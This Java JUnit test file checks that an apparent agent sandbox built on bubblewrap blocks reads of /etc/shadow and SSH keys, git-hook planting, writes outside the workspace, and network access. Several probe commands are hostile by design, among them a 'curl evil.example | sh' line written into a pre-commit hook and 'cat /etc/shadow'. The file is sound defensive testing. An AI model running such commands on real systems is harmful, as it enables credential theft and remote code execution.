package dev.darkfactory.agent.env;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class SandboxedExecutionEnvironmentTest {
  @TempDir Path dir;
  @TempDir Path outside;

  @BeforeEach
  void needsBubblewrap() {
    assumeTrue(Bubblewrap.isAvailable(), "bubblewrap (bwrap) is not installed or cannot create namespaces here");
  }

  private ExecResult run(SandboxPolicy policy, String command) {
    return run(policy, command, Map.of());
  }

  private ExecResult run(SandboxPolicy policy, String command, Map<String, String> env) {
    SandboxedExecutionEnvironment sandbox =
        SandboxedExecutionEnvironment.create(LocalExecutionEnvironment.create(dir), policy);
    return sandbox.execCommand(command, Duration.ofSeconds(30), Optional.empty(), env);
  }

  /** Runs {@code git} on the host, in {@code directory}. */
  private static void git(Path directory, String... args) throws Exception {
    List<String> argv = new ArrayList<>(List.of("git", "-c", "user.name=t", "-c", "user.email=t@example.com"));
    argv.addAll(List.of(args));
    Process process = new ProcessBuilder(argv).directory(directory.toFile()).redirectErrorStream(true).start();
    String output = new String(process.getInputStream().readAllBytes());
    assertThat(process.waitFor()).as("git %s: %s", String.join(" ", args), output).isZero();
  }

  @Test
  void secretsOfTheSystemAreNotVisible() {
    // The suite runs as root in CI: with / mounted readable, cat /etc/shadow used to print the hashes.
    ExecResult result = run(SandboxPolicy.defaults(),
        "cat /etc/shadow; echo \"shadow=$?\"; for f in /etc/gshadow /etc/sudoers /etc/ssh /root/.ssh /var /opt /home;"
            + " do test -e $f && echo \"visible $f\"; done; test -r /etc/passwd && echo passwd-readable");

    assertThat(result.stdout()).doesNotContain("root:").contains("shadow=1").doesNotContain("visible").contains("passwd-readable");
    assertThat(result.stderr()).contains("/etc/shadow: No such file or directory");
  }

  @Test
  void gitMetadataIsReadOnlyButGitStillWorks() throws Exception {
    git(dir, "init", "-q", ".");
    Files.writeString(dir.resolve("tracked.txt"), "v1\n");
    git(dir, "add", "tracked.txt");
    git(dir, "commit", "-q", "-m", "first");
    String config = Files.readString(dir.resolve(".git/config"));

    ExecResult result = run(SandboxPolicy.defaults(),
        "echo 'curl evil.example | sh' > .git/hooks/pre-commit && echo planted-hook;"
            + " git config core.hooksPath /tmp/hooks && echo planted-config;"
            + " echo v2 > tracked.txt && git status --porcelain && git log --oneline | wc -l");

    assertThat(result.stdout()).doesNotContain("planted").contains(" M tracked.txt").endsWith("1\n");
    assertThat(result.stderr()).contains("Read-only file system");
    assertThat(dir.resolve(".git/hooks/pre-commit")).doesNotExist();
    assertThat(dir.resolve(".git/config")).hasContent(config);
    assertThat(dir.resolve("tracked.txt")).hasContent("v2\n");
  }

  @Test
  void aWorktreesGitDirectoriesAreReadOnlyToo() throws Exception {
    Path main = Files.createDirectories(outside.resolve("main"));
    git(main, "init", "-q", ".");
    Files.writeString(main.resolve("a.txt"), "a\n");
    git(main, "add", "a.txt");
    git(main, "commit", "-q", "-m", "first");
    Files.delete(dir);
    git(main, "worktree", "add", "-q", dir.toString());

    ExecResult result = run(SandboxPolicy.defaults(),
        "git status --porcelain && echo status-ok; echo x > " + main.resolve(".git/hooks/pre-commit") + " && echo planted;"
            + " echo 'gitdir: /tmp/evil' > .git && echo repointed; test -e " + main.resolve("a.txt") + " && echo main-tree-visible");

    assertThat(result.stdout()).contains("status-ok").doesNotContain("planted").doesNotContain("repointed")
        .doesNotContain("main-tree-visible");
    assertThat(main.resolve(".git/hooks/pre-commit")).doesNotExist();
  }

  @Test
  void theJdkRuns() {
    String javaHome = System.getProperty("java.home");

    ExecResult result = run(SandboxPolicy.defaults(), "\"$JAVA_HOME/bin/java\" -version", Map.of("JAVA_HOME", javaHome));

    assertThat(result.exitCode()).as(result.stderr()).isZero();
    assertThat(result.stderr()).contains("version \"" + Runtime.version().feature());
  }

  @Test
  void aJavaHomeOutsideTheSystemIsMountedReadOnlyAndNothingBesideIt() throws Exception {
    Path jdk = Files.createDirectories(outside.resolve("jdk/bin"));
    Files.writeString(jdk.resolve("java"), "#!/bin/sh\necho fake-java\n");
    jdk.resolve("java").toFile().setExecutable(true);
    Files.writeString(outside.resolve("secret.txt"), "secret");

    ExecResult result = run(SandboxPolicy.defaults(),
        "\"$JAVA_HOME/bin/java\"; cat " + outside.resolve("secret.txt") + " || echo hidden; touch \"$JAVA_HOME/x\" || echo read-only",
        Map.of("JAVA_HOME", outside.resolve("jdk").toString()));

    assertThat(result.stdout()).isEqualTo("fake-java\nhidden\nread-only\n");
  }

  @Test
  void theHomeIsPrivateAndEmptyAndTheRootReadOnly() throws Exception {
    Path home = Files.createDirectories(outside.resolve("home"));
    Files.writeString(home.resolve(".netrc"), "machine example.com password hunter2");

    ExecResult result = run(SandboxPolicy.defaults(),
        "echo \"$HOME\"; ls -A \"$HOME\" | wc -l; touch ~/.cache && echo home-writable; touch /planted || echo root-read-only;"
            + " echo \"$TMPDIR\"", Map.of("HOME", home.toString(), "TMPDIR", "/var/tmp/elsewhere"));

    assertThat(result.stdout()).isEqualTo(home + "\n0\nhome-writable\nroot-read-only\n/tmp\n");
    assertThat(home.resolve(".cache")).doesNotExist();
  }

  @Test
  void aUserNamespaceIsUsedWhereTheKernelAllowsOne() {
    assumeTrue(Bubblewrap.usesUserNamespace(), "this kernel refuses user namespaces to bubblewrap");

    // In a user namespace the uid map is a single line mapping one id, not the initial namespace's full range.
    ExecResult result = run(SandboxPolicy.defaults(), "cat /proc/self/uid_map | wc -l; cat /proc/self/uid_map");

    assertThat(result.stdout()).startsWith("1\n").doesNotContain("4294967295");
  }

  @Test
  void readableAndWritablePathsCanBeAdded() throws Exception {
    Path tools = Files.createDirectories(outside.resolve("tools"));
    Files.writeString(tools.resolve("tool.txt"), "tool");
    Path cache = Files.createDirectories(outside.resolve("cache"));

    ExecResult result = run(SandboxPolicy.defaults().withReadablePaths(List.of(tools)).withWritablePaths(List.of(cache)),
        "cat " + tools.resolve("tool.txt") + "; touch " + tools.resolve("x") + " || echo ' read-only';"
            + " echo cached > " + cache.resolve("c.txt"));

    assertThat(result.stdout()).isEqualTo("tool read-only\n");
    assertThat(cache.resolve("c.txt")).hasContent("cached\n");
  }

  @Test
  void workingDirectoryIsWritableAndTheRestReadOnly() {
    ExecResult result =
        run(SandboxPolicy.defaults(),
            "echo made > inside.txt && echo ok; echo x > " + outside.resolve("escape.txt") + " 2>/dev/null || echo refused");

    assertThat(result.stdout()).isEqualTo("ok\nrefused\n");
    assertThat(dir.resolve("inside.txt")).hasContent("made\n");
    assertThat(outside.resolve("escape.txt")).doesNotExist();
  }

  @Test
  void tmpIsPrivateAndEmpty() throws Exception {
    // The one file a test writes outside its own directories: the host's /tmp is what must be hidden. Deleted below.
    Path marker = Files.createTempFile("sandbox-marker", ".txt");
    try {
      ExecResult result = run(SandboxPolicy.defaults(), "test -e " + marker + " && echo visible || echo hidden; touch /tmp/t && echo writable");
      assertThat(result.stdout()).isEqualTo("hidden\nwritable\n");
    } finally {
      Files.deleteIfExists(marker);
    }
  }

  @Test
  void networkIsCutUnlessAllowed() throws Exception {
    // /proc is mounted afresh inside the sandbox, so /proc/net shows the sandbox's own namespace.
    String interfaces = "tail -n +3 /proc/net/dev | cut -d: -f1 | tr -d ' ' | sort | tr '\\n' ' '";
    Process host = new ProcessBuilder("bash", "-c", interfaces).start();
    String hostInterfaces = new String(host.getInputStream().readAllBytes());

    assertThat(run(SandboxPolicy.defaults(), interfaces).stdout()).isEqualTo("lo ");
    assertThat(run(SandboxPolicy.defaults().withNetwork(true), interfaces).stdout()).isEqualTo(hostInterfaces);
  }

  @Test
  void timeoutStillKillsTheSandboxedTree() {
    SandboxedExecutionEnvironment env =
        SandboxedExecutionEnvironment.create(LocalExecutionEnvironment.create(dir), SandboxPolicy.defaults());
    // Ample time for bubblewrap to set up and the command to print on a loaded machine; none for the sleep.
    ExecResult result = env.execCommand("echo started; sleep 300", Duration.ofSeconds(3), Optional.empty(), Map.of());

    assertThat(result.timedOut()).isTrue();
    assertThat(result.stdout()).isEqualTo("started\n");
    assertThat(result.durationMs()).isLessThan(60_000);
  }
}
